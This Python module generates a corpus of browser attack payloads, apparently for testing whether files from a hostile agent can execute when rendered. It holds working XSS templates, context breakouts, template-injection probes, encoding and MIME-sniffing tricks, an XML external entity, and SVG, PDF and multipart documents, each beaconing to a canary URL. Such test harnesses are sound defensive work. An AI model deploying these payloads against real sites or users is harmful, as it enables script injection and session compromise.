"""What a hostile agent would hand to a browser: what runs, if anything lets it (S10).

Each calls a canary when it runs, and most open a dialog as well; some need no script to be noticed.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from html import escape
from typing import NamedTuple

HTML, SVG, XHTML, XML = "text/html", "image/svg+xml", "application/xhtml+xml", "text/xml"
TYPES = [
    HTML,
    SVG,
    XHTML,
    XML,
    "text/plain",
    "image/png",
    "image/gif",
    "application/octet-stream",
    "application/pdf",
    "application/json",
    "application/x-shockwave-flash",
    "application/xslt+xml",
    "message/rfc822",
    "multipart/x-mixed-replace",
    "text/css",
    "text/javascript",
    "text/vtt",
]
"""Types that a file may claim to be of."""


class Payload(NamedTuple):
    """A file that wants to run."""

    content: bytes
    mime_type: str


ELEMENTS = [
    "<script>{run}</script>",
    "<ScRiPt >{run}</sCrIpT\t\n>",
    "<script src='{url}'></script>",
    "<script type=module>{run}</script>",
    "<img src=x onerror={attribute}>",
    "<img src=x:x onerror={attribute} //",
    "<img/src=`x`/onerror={attribute}>",
    "<svg onload={attribute}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={attribute} attributeName=x dur=1s>",
    "<svg><script href='{url}'/></svg>",
    "<body onload={attribute}>",
    "<body onpageshow={attribute}>",
    "<video src=x onerror={attribute}></video>",
    "<video><source onerror={attribute}></video>",
    "<audio src=x onerror={attribute}></audio>",
    "<details open ontoggle={attribute}>x</details>",
    "<input autofocus onfocus={attribute}>",
    "<object data=x onerror={attribute}></object>",
    "<iframe onload={attribute}></iframe>",
    "<iframe srcdoc={document}></iframe>",
    "<iframe src={javascript}></iframe>",
    "<iframe src={data}></iframe>",
    "<object data={data}></object>",
    "<embed src={data}>",
    "<embed src={javascript}>",
    "<style onload={attribute}></style>",
    "<link rel=stylesheet href='{url}'>",
    "<link rel=stylesheet href=data:, onload={attribute}>",
    "<link rel=prefetch href='{url}'>",
    "<style>@import '{url}';</style>",
    "<style>body{{background:url({url})}}</style>",
    "<img src='{url}'>",
    "<img srcset='{url} 1x'>",
    "<picture><source srcset='{url}'><img></picture>",
    "<input type=image src='{url}'>",
    "<video poster='{url}'></video>",
    "<iframe src='{url}'></iframe>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<meta http-equiv=refresh content='0;url={refresh}'>",
    "<base href='{url}/'><script src=a></script>",
    "<math><mtext><table><mglyph><style><img src=x onerror={attribute}>",
    "<math href={javascript}><mi>x</mi></math><img src='{url}'>",
    "<template><p></p></template><img src=x onerror={attribute}>",
    "<form id=f action={javascript}></form><script>f.submit()</script>",
    "<form id=f action='{url}'></form><script>f.submit()</script>",
    "<a id=a href={javascript}>x</a><script>a.click()</script>",
    "<marquee onstart={attribute}>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror={attribute}>'>",
    "<object data='{url}'></object>",
]
"""Markup that needs nobody's help."""
BREAKOUTS = [
    "\"'>",
    "-->",
    "]]>",
    "</title></textarea></style></script></noscript>",
    "<!--[if]>",
    "*/--></p>",
    "{{{{7*7}}}}${{7*7}}",
    "\0",
]
"""What ends the places into which text is put."""
MAGIC = {
    "image/gif": b"GIF89a/*",
    "image/png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
    "image/jpeg": b"\xff\xd8\xff\xe0\0\x10JFIF\0",
    "image/webp": b"RIFF\x10\0\0\0WEBPVP8 ",
    "image/bmp": b"BM/*",
    "application/pdf": b"%PDF-1.7\n",
    "application/zip": b"PK\x03\x04",
    "audio/mpeg": b"ID3\x03",
    "video/mp4": b"\0\0\0\x18ftypmp42",
    "text/plain": b"plain words first, and a lot of them.\n" * 30,
}
"""How files of harmless types begin."""
ENCODINGS = ["utf-16", "utf-16-be", "utf-32", "utf-7", "iso2022_jp", "utf-8-sig"]


class Corpus:
    """Payloads that tell a canary at that address which of them ran."""

    def __init__(self, canary: str) -> None:
        self._canary = canary
        self._count = 0

    def __iter__(self) -> Iterator[Payload]:
        yield from (Payload(self._filled(each).encode(), HTML) for each in ELEMENTS)
        for breakout in BREAKOUTS:
            for each in ELEMENTS[:24]:
                yield Payload(self._filled(breakout + each).encode(), HTML)
        for encoding in ENCODINGS:
            for each in ELEMENTS[:6]:
                yield Payload(self._filled(each).encode(encoding), HTML)
        for mime_type, magic in MAGIC.items():
            for each in ELEMENTS[:6:2]:
                yield Payload(magic + self._filled(each).encode(), mime_type)
        yield from self._documents()

    def _documents(self) -> Iterator[Payload]:
        """Whole documents of types that run by themselves."""
        svg = "http://www.w3.org/2000/svg"
        xhtml = "http://www.w3.org/1999/xhtml"
        image = f'<img xmlns="{xhtml}" src="x" onerror={{attribute}}/>'
        for text, mime_type in (
            (f'<svg xmlns="{svg}"><script>{{run}}</script></svg>', SVG),
            (f'<svg xmlns="{svg}" onload={{attribute}}/>', SVG),
            (f'<svg xmlns="{svg}"><image href="{{url}}"/></svg>', SVG),
            (f'<svg xmlns="{svg}"><use href="{{url}}#x"/></svg>', SVG),
            (f'<svg xmlns="{svg}"><style>@import "{{url}}";</style></svg>', SVG),
            (f'<svg xmlns="{svg}"><foreignObject>{image}</foreignObject></svg>', SVG),
            (f'<html xmlns="{xhtml}"><script>{{run}}</script></html>', XHTML),
            (f'<x xmlns:h="{xhtml}"><h:script>{{run}}</h:script></x>', XML),
            (f'<x><h:img xmlns:h="{xhtml}" src="{{url}}"/></x>', "application/rss+xml"),
            ('<?xml-stylesheet href="{url}" type="text/css"?><x/>', XML),
            ('<?xml-stylesheet href="{url}" type="text/xsl"?><x/>', XML),
            ('<!DOCTYPE x [<!ENTITY e SYSTEM "{url}">]><x>&e;</x>', XML),
            ("{run}", "text/javascript"),
            ("/*<script>*/{run}/*</script>*/", "text/javascript"),
            ('@import "{url}"; body{{background:url({url})}}', "text/css"),
            (
                "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI({url})>>>>endobj",
                "application/pdf",
            ),
            ("MIME-Version: 1.0\nContent-Type: text/html\n\n<script>{run}</script>", HTML),
            (
                "--x\nContent-Type: text/html\n\n<script>{run}</script>\n--x--",
                "multipart/x-mixed-replace",
            ),
            ('{{"x":"<script>{run}</script>"}}', "application/json"),
            ("data: <script>{run}</script>\n\n", "text/event-stream"),
            ("CACHE MANIFEST\n{url}\n", "text/cache-manifest"),
            ("WEBVTT\n\n00:00.000 --> 00:09.000\n<c><img src={url}></c>\n", "text/vtt"),
        ):
            yield Payload(self._filled(text).encode(), mime_type)

    def _filled(self, text: str) -> str:
        self._count += 1
        number, url = self._count, f"{self._canary}/{self._count}"
        run = f"new Image().src='{url}';try{{alert({number})}}catch(e){{}}"
        whole = f"<script>{run}</script>"
        return text.format(
            url=url,
            run=run,
            attribute=f'"{run}"',
            document=f'"{escape(whole)}"',
            javascript=f'"java&#115;cript:{run}"',
            data=f'"data:text/html;base64,{base64.b64encode(whole.encode()).decode()}"',
            refresh=f"data:text/html,{escape(whole)}",
        )
